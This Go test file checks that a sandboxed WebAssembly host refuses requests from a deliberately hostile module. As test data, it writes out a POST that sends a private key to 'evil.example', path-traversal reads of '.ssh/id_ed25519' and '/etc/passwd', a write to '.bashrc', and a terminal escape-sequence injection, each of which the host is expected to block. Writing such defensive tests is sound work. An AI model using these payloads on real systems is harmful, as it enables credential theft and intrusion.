package host_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/fxamacker/cbor/v2"

	"github.com/agentassert/agentassert/core"
	"github.com/agentassert/agentassert/core/wire"
	"github.com/agentassert/agentassert/host"
	"github.com/agentassert/agentassert/testvectors"
)

// environment is that of the tests before TestMain changes it: the Go command's cache
// is found by it.
var environment = os.Environ()

// hostileModule is the module of wasm/guest/testdata/hostile, which answers as it is told to.
var hostileModule = sync.OnceValues(func() ([]byte, error) {
	dir, err := os.MkdirTemp("", "agentassert-hostile-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	file := filepath.Join(dir, "hostile.wasm")
	build := exec.Command("go", "run", "./wasmbuild", "-guest", "../wasm/guest/testdata/hostile", "-o", file)
	build.Dir, build.Env = "../cmd", environment
	if out, err := build.CombinedOutput(); err != nil {
		return nil, fmt.Errorf("building the hostile module: %w\n%s", err, out)
	}
	return os.ReadFile(file)
})

// hostile is an engine with that module, in one instance.
type hostile struct{ *host.Sandbox }

func newHostile(t *testing.T) hostile {
	t.Helper()
	module, err := hostileModule()
	if err != nil {
		t.Fatal(err)
	}
	// It is interpreted, and the machine may have other things to do.
	return hostile{newSandbox(t, host.SandboxOptions{Module: module, MaxInstances: 1, CallTimeout: time.Hour})}
}

// order is a response to the next call of a method.
type order struct {
	method   string
	response []byte
}

// obey has the module give these responses.
func (h hostile) obey(t *testing.T, orders ...order) {
	t.Helper()
	request := []byte("o")
	for _, o := range orders {
		for _, part := range [][]byte{[]byte(o.method), o.response} {
			request = binary.LittleEndian.AppendUint32(request, uint32(len(part)))
			request = append(request, part...)
		}
	}
	if _, err := h.Call(context.Background(), request); err != nil {
		t.Fatal(err)
	}
}

// heard is all that the module was sent since then.
func (h hostile) heard(t *testing.T) []byte {
	t.Helper()
	response, err := h.Call(context.Background(), []byte("h"))
	if err != nil {
		t.Fatal(err)
	}
	return response
}

// wants is the order to ask for an effect, in the JSON form of the vectors.
func wants(t *testing.T, effect json.RawMessage) order {
	t.Helper()
	state := `"state":{"hex":"01"},`
	if bytes.Contains(effect, []byte(`"type": "done"`)) || bytes.Contains(effect, []byte(`"type":"done"`)) {
		state = ""
	}
	response, err := testvectors.Encode(json.RawMessage(`{"ok":{` + state + `"effect":` + string(effect) + `}}`))
	if err != nil {
		t.Fatal(err)
	}
	return order{wire.MethodFlowStep, response}
}

// hostEffect are the parameters of host.effect, in the vectors for hosts.
type hostEffect struct {
	Config      json.RawMessage `json:"config"`
	Surface     string          `json:"surface"`
	ThreadID    string          `json:"thread_id"`
	Credentials json.RawMessage `json:"credentials"`
	Entropy     json.RawMessage `json:"entropy"`
	Before      []struct {
		Effect          json.RawMessage `json:"effect"`
		ResponseHeaders []wire.Header   `json:"response_headers"`
		Entropy         json.RawMessage `json:"entropy"`
	} `json:"before"`
	Now    int64           `json:"now"`
	Effect json.RawMessage `json:"effect"`
}

// touched remembers all that a manager touches on behalf of its module.
type touched struct {
	host.MemoryStore

	mu   sync.Mutex
	what []string
	// headers are those of the next answers of the network.
	headers [][]wire.Header
	// ids are what assertions' ids are made of in a flow, one after the other: the
	// host's own, and no effect's for the most part.
	ids  [][]byte
	next int
}

func (s *touched) note(what string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.what = append(s.what, what)
}

func (s *touched) Load(_ context.Context, slot string) ([]byte, error) {
	s.note("load " + slot)
	return nil, nil
}

func (s *touched) Save(_ context.Context, slot string, _ []byte) error {
	s.note("save " + slot)
	return nil
}

func (s *touched) Delete(_ context.Context, slot string) error {
	s.note("delete " + slot)
	return nil
}

func (s *touched) Swap(_ context.Context, slot string, _, _ []byte) error {
	s.note("swap " + slot)
	return nil
}

func (s *touched) Lock(_ context.Context, slot string) (func(), error) {
	s.note("lock " + slot)
	return func() {}, nil
}

func (s *touched) Probe(_ context.Context, slot string) error {
	s.note("probe " + slot)
	return nil
}

// Read implements io.Reader for entropy.
func (s *touched) Read(p []byte) (int, error) {
	if s.next < len(s.ids) && len(p) == len(s.ids[s.next]) {
		s.next++
		return copy(p, s.ids[s.next-1]), nil
	}
	s.note("entropy")
	return len(p), nil
}

func (s *touched) RoundTrip(r *http.Request) (*http.Response, error) {
	s.note("http " + r.URL.String())
	s.mu.Lock()
	defer s.mu.Unlock()
	h := http.Header{}
	if len(s.headers) > 0 {
		for _, field := range s.headers[0] {
			h.Set(field.Name, field.Value)
		}
		s.headers = s.headers[1:]
	}
	return respond(http.StatusOK, h, http.NoBody), nil
}

// pausesOf is a configuration's pauses.
func pausesOf(c wire.Config) *host.Pauses {
	if c.Pauses == nil {
		return nil
	}
	return &host.Pauses{First: time.Duration(c.Pauses.First) * time.Second, Most: time.Duration(c.Pauses.Most) * time.Second}
}

// manager returns one for the call of a vector, that touches nothing else.
func (s *touched) manager(t *testing.T, e host.Engine, p hostEffect) *host.Manager {
	t.Helper()
	config, credentials := fromJSON[wire.Config](t, p.Config), fromJSON[wire.Credentials](t, p.Credentials)
	m := manager(t, host.ManagerConfig{
		Engine:             e,
		Store:              s,
		Credentials:        fixed(credentials),
		BaseURL:            config.BaseURL,
		AllowHTTP:          true,
		AgentIdentity:      config.AgentIdentity,
		TrustedHosts:       config.TrustedHosts,
		ForcedWorkspaceIDs: config.ForcedWorkspaceIDs,
		ABOM:               config.ABOM,
		Profile:            config.Profile,
		AuthAPIURL:         config.AuthAPIURL,
		AllSurfaces:        config.AllSurfaces,
		WorkspaceRouting:   config.WorkspaceRouting,
		Instance:           config.Instance,
		Pauses:             pausesOf(config),
		Capabilities:       config.Capabilities,
		HTTPClient:         &http.Client{Transport: s},
		Now:                func() time.Time { return time.Unix(p.Now, 0) },
		Rand:               s,
	})
	m.SetWait(func(context.Context, time.Duration) error {
		s.note("wait")
		return nil
	})
	return m
}

// fromJSON reads a message in the JSON form of the vectors.
func fromJSON[T any](t *testing.T, value json.RawMessage) (message T) {
	t.Helper()
	encoded, err := testvectors.Encode(value)
	if err == nil {
		err = cbor.Unmarshal(encoded, &message)
	}
	if err != nil {
		t.Fatal(err)
	}
	return message
}

// TestHostileModule runs each vector for hosts with a module that asks for its effect. Of
// what is refused nothing is done, and what is allowed is.
func TestHostileModule(t *testing.T) {
	files, err := testvectors.LoadHosts()
	if err != nil {
		t.Fatal(err)
	}
	h := newHostile(t)
	for _, v := range files[0].Vectors {
		t.Run(v.ID, func(t *testing.T) {
			var p hostEffect
			if err := json.Unmarshal(v.Params, &p); err != nil {
				t.Fatal(err)
			}
			s := new(touched)
			id := func(value json.RawMessage) {
				if len(value) > 0 {
					s.ids = append(s.ids, fromJSON[wire.KeyGenerateParams](t, json.RawMessage(`{"entropy":`+string(value)+`}`)).Entropy)
				}
			}
			id(p.Entropy)
			var orders []order
			for _, b := range p.Before {
				id(b.Entropy)
				orders = append(orders, wants(t, b.Effect))
				if fromJSON[wire.Effect](t, b.Effect).Type == wire.EffectHTTP {
					s.headers = append(s.headers, b.ResponseHeaders)
				}
			}
			m := s.manager(t, h, p)
			ask := func() (host.Authorization, error) {
				s.next = 0
				if p.ThreadID != "" {
					return m.Thread(p.ThreadID).Authorization(context.Background(), p.Surface)
				}
				return m.Authorization(context.Background(), p.Surface)
			}
			// What is done before.
			if len(orders) > 0 {
				h.obey(t, orders...)
				_, err := ask()
				checkCode(t, err, core.CodeInvalidState)
			}
			before := s.what
			s.what = nil
			for _, b := range p.Before {
				if fromJSON[wire.Effect](t, b.Effect).Type == wire.EffectHTTP {
					s.headers = append(s.headers, b.ResponseHeaders)
				}
			}
			h.obey(t, append(orders, wants(t, p.Effect))...)
			a, err := ask()
			if v.Error != nil {
				checkCode(t, err, v.Error.Code)
				if !slices.Equal(s.what, before) {
					t.Errorf("the manager has touched %q, and before %q", s.what, before)
				}
				return
			}
			e := fromJSON[wire.Effect](t, p.Effect)
			switch {
			case e.Slot == wire.SlotInstance, e.Slot == wire.SlotWorkspace:
				// In the manager's memory.
			case e.Type == wire.EffectEntropy && e.Size == 16 && len(s.ids) > 0:
				// For another id.
			case e.Type == wire.EffectDone && e.Authorization.RuntimeAgentInstance != "":
				// It was believed, and each call has another assertion made of it.
				checkCode(t, err, core.CodeUnexpectedEvent)
			case e.Type == wire.EffectDone:
				if e.Authorization.Reason == core.ReasonStoreFailed {
					checkCode(t, err, host.CodeThreadFailed)
				} else if err != nil || a.Header() != e.Authorization.Header {
					t.Errorf("got %v, %v", a, err)
				}
			case e.Type == wire.EffectUnlock:
			case len(s.what) != len(before)+1:
				t.Errorf("the manager has touched %q, and before %q", s.what, before)
			}
		})
	}
}

// The attack that showed what a module can have its host do: with the user's key and
// token in a request, a record and an answer.
func TestHostileModuleIsTold(t *testing.T) {
	w := newWorld()
	h := newHostile(t)
	w.engine = h
	m := manager(t, w.config())
	h.obey(t)
	checkAssertion(t, ask(t, m))
	if !bytes.Contains(h.heard(t), []byte(w.session.AccessToken)) {
		t.Fatal("the module has not seen the token, so nothing below says anything")
	}
	key := w.storedIdentity(t)["agent_private_key"]
	before := w.network.count()
	for name, effect := range map[string]string{
		"another server":   `{"type":"http","method":"POST","url":"https://evil.example/","headers":[],"body":{"utf8":"KEY"},"timeout_ms":1000,"size_limit":1000}`,
		"a file":           `{"type":"load","slot":"record/../../../.ssh/id_ed25519"}`,
		"a file to write":  `{"type":"save","slot":"../../.bashrc","record":{"utf8":"KEY"}}`,
		"the user's token": `{"type":"done","authorization":{"mode":"agent-assertion","reason":"background-task","header":"Bearer KEY","account_id":"acct-1","valid_until":1795533370}}`,
	} {
		t.Run(name, func(t *testing.T) {
			w.clock.advance(time.Second)
			h.obey(t, wants(t, json.RawMessage(strings.ReplaceAll(effect, "KEY", key))))
			_, err := m.Authorization(context.Background(), core.SurfaceApps)
			checkCode(t, err, host.CodePolicyViolation)
			checkHidden(t, append(w.secrets(t), key), err)
			checkCount(t, "requests", w.network.count(), before)
		})
	}
	h.obey(t)
	w.clock.advance(time.Second)
	checkAssertion(t, ask(t, m))
}

// A module's answer that is no message, or an error of no known form, is its own failure.
func TestHostileAnswers(t *testing.T) {
	h := newHostile(t)
	encode := func(response string) []byte {
		encoded, err := testvectors.Encode(json.RawMessage(response))
		if err != nil {
			t.Fatal(err)
		}
		return encoded
	}
	load := string(encode(`{"type":"load","slot":"identity"}`))
	for name, tt := range map[string]struct {
		response []byte
		code     string
	}{
		"no CBOR":            {[]byte("garbage"), host.CodeSandboxFailed},
		"nothing":            {encode(`{}`), host.CodeSandboxFailed},
		"no effect":          {encode(`{"ok":{}}`), host.CodePolicyViolation},
		"an unknown member":  {encode(`{"ok":{"effect":{"type":"load","slot":"identity","path":"/etc/passwd"}}}`), host.CodeSandboxFailed},
		"a member twice":     {[]byte("\xa1\x62ok\xa2\x66effect" + load + "\x66effect" + load), host.CodeSandboxFailed},
		"a type that is two": {encode(`{"ok":{"effect":{"type":["load","save"]}}}`), host.CodeSandboxFailed},
		"done with nothing":  {encode(`{"ok":{"effect":{"type":"done"}}}`), host.CodeSandboxFailed},
		"an error":           {encode(`{"error":{"code":"invalid_state","message":"as it comes"}}`), core.CodeInvalidState},
		"a code of no form":  {encode(`{"error":{"code":"Invalid State\n","message":"x"}}`), host.CodeSandboxFailed},
		"no code":            {encode(`{"error":{"code":"","message":"x"}}`), host.CodeSandboxFailed},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld()
			w.engine = h
			m := manager(t, w.config())
			h.obey(t, order{wire.MethodFlowStep, tt.response})
			_, err := m.Authorization(context.Background(), core.SurfaceApps)
			checkCode(t, err, tt.code)
			h.obey(t, order{wire.MethodFlowStep, tt.response})
			_, err = m.Status(context.Background())
			checkCode(t, err, tt.code)
		})
	}
	t.Run("a text for a terminal", func(t *testing.T) {
		h.obey(t, order{wire.MethodKeyParse, encode(`{"error":{"code":"internal","message":"\u001b]0;title\u0007\r\n` + strings.Repeat("x", 5000) + `"}}`)})
		_, err := host.Call[wire.KeyPair](context.Background(), h, wire.MethodKeyParse, wire.KeyParseParams{})
		checkCode(t, err, core.CodeInternal)
		if text := err.Error(); strings.ContainsAny(text, "\x1b\x07\r\n") || len(text) > 4200 {
			t.Errorf("got %.80q, %d bytes", text, len(text))
		}
	})
}

// Status carries out nothing that a flow would not, either.
func TestHostileStatus(t *testing.T) {
	h := newHostile(t)
	for name, effect := range map[string]string{
		"another slot":    `{"type":"load","slot":"../x"}`,
		"another thread":  `{"type":"load","slot":"thread/thread-2"}`,
		"another answer":  `{"type":"done","authorization":{"mode":"bearer","reason":"feature-off","header":"Bearer other","account_id":"acct-1","valid_until":1}}`,
		"another account": `{"type":"done","authorization":{"mode":"none","reason":"store-failed","account_id":"acct-2","valid_until":1795533368}}`,
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld()
			w.engine = h
			s := new(touched)
			c := w.config()
			c.Store = s
			m := manager(t, c)
			h.obey(t, wants(t, json.RawMessage(effect)))
			_, err := m.Status(context.Background(), "thread-1")
			checkCode(t, err, host.CodePolicyViolation)
			checkCount(t, "accesses", len(s.what), 0)
		})
	}
}

// A flow ends, whatever its module wants, and gives its locks back.
func TestHostileFlowEnds(t *testing.T) {
	for name, effects := range map[string][]wire.Effect{
		"loads":   {{Type: wire.EffectLoad, Slot: wire.SlotIdentity}},
		"entropy": {{Type: wire.EffectEntropy, Size: 64}},
		"locks": {
			{Type: wire.EffectLock, Slot: wire.SlotIdentity}, {Type: wire.EffectUnlock, Slot: wire.SlotIdentity},
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld()
			steps := 0
			w.engine = engineFunc(func([]byte) ([]byte, error) {
				steps++
				return step(effects[(steps-1)%len(effects)])()
			})
			_, err := manager(t, w.config()).Authorization(context.Background(), core.SurfaceApps)
			checkCode(t, err, host.CodeSandboxFailed)
			if steps > 100 {
				t.Errorf("the flow took %d steps", steps)
			}
			unlock, err := w.store.Lock(context.Background(), wire.SlotIdentity)
			if err != nil {
				t.Fatal(err)
			}
			unlock()
		})
	}
}

// Others wait for a lock for some four minutes at the most, however long its holder's
// module waits for whatever.
func TestHostileFlowUnderALock(t *testing.T) {
	lock := wire.Effect{Type: wire.EffectLock, Slot: wire.SlotIdentity}
	task := wire.Effect{
		Type: wire.EffectHTTP, Method: "POST", URL: "https://auth.openai.com/api/accounts/v1/agent/agent-1/task/register",
		Headers: []wire.Header{{Name: "content-type", Value: "application/json"}}, TimeoutMS: 30_000, SizeLimit: 1000,
	}
	for name, then := range map[string]wire.Effect{
		"waits":    {Type: wire.EffectWait, WaitMS: 10_000},
		"requests": task,
		"saves":    {Type: wire.EffectSave, Slot: wire.SlotBackend, Record: []byte("{}")},
		"probes":   {Type: wire.EffectProbe, Slot: wire.SlotIdentity},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				w := newWorld()
				locked := false
				w.engine = engineFunc(func([]byte) ([]byte, error) {
					if !locked {
						locked = true
						return step(lock)()
					}
					return step(then)()
				})
				c := w.config()
				c.Profile, c.AllSurfaces, c.AuthAPIURL = wire.ProfileAuthAPI, true, "https://auth.openai.com/api/accounts"
				c.Store = &slowStore{MemoryStore: w.store.(*host.MemoryStore)}
				c.HTTPClient = &http.Client{Transport: hanging{}}
				began := time.Now()
				_, err := manager(t, c).Authorization(context.Background(), core.SurfaceApps)
				if code := core.Code(err); code != host.CodeSandboxFailed && code != host.CodePolicyViolation {
					t.Errorf("got %v", err)
				}
				if held := time.Since(began); held > 6*time.Minute {
					t.Errorf("the lock was held for %v", held)
				}
			})
		})
	}
}

// slowStore takes as long as it may.
type slowStore struct{ *host.MemoryStore }

func (s *slowStore) Save(ctx context.Context, _ string, _ []byte) error {
	<-ctx.Done()
	return ctx.Err()
}

func (s *slowStore) Probe(ctx context.Context, _ string) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(time.Minute):
		return nil
	}
}

// hanging answers no request.
type hanging struct{}

func (hanging) RoundTrip(r *http.Request) (*http.Response, error) {
	<-r.Context().Done()
	return nil, r.Context().Err()
}

// A registration that others wait for too long is remembered as one that timed out, and
// not as one that its caller broke off.
func TestRegistrationUnderALockTimesOut(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld()
		c := w.config()
		c.HTTPClient = &http.Client{Transport: hanging{}}
		m := manager(t, c)
		m.SetHeld(time.Second)
		a, err := m.Authorization(context.Background(), core.SurfaceApps)
		if err != nil {
			t.Fatal(err)
		}
		check(t, a, core.ModeBearer, core.ReasonRegistrationFailed, core.CodeRequestFailed)
		if a.RetryAt.IsZero() {
			t.Error("the next call tries again at once")
		}
	})
}
